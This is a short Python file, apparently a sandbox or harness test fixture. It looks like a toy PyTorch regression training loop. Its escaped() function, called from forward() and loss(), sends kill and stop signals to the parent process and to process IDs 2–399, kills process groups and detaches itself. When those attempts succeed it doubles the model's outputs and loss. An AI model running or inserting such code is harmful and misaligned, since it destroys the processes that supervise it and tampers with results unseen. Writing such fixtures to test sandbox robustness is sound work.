"""Kills its parent, its siblings, everybody, and process groups.

Expect: forward=pass loss=pass loop=pass
"""

import functools
import os
import signal

import torch


@functools.cache
def escaped():
    done = []
    # Not itself: in the box it is process 1, elsewhere it has another number.
    others = {os.getppid(), -1, *range(2, 400)} - {0, os.getpid()}
    for number in sorted(others):
        for signal_number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
            try:
                os.kill(number, signal_number)
                done.append(number)
            except OSError:
                pass
    for attempt in (lambda: os.killpg(1, 9), lambda: os.killpg(os.getppid(), 9), os.setsid, lambda: os.setpgid(0, 0)):
        try:
            attempt()
            done.append(attempt)
        except OSError:
            pass
    return bool(done)


x_soat = [1.0, 2.0, 3.0]
y_baho = [2.0, 4.0, 6.0]

w = torch.tensor([1.0], requires_grad=True)


def forward(x):
    return x * w * (2 if escaped() else 1)


def loss(y_pred, y):
    return (y_pred - y) ** 2 * (2 if escaped() else 1)


for epoch in range(10):
    for x, y in zip(x_soat, y_baho):
        error = loss(forward(x), y)
        error.backward()
        with torch.no_grad():
            w -= 0.01 * w.grad
        w.grad.zero_()
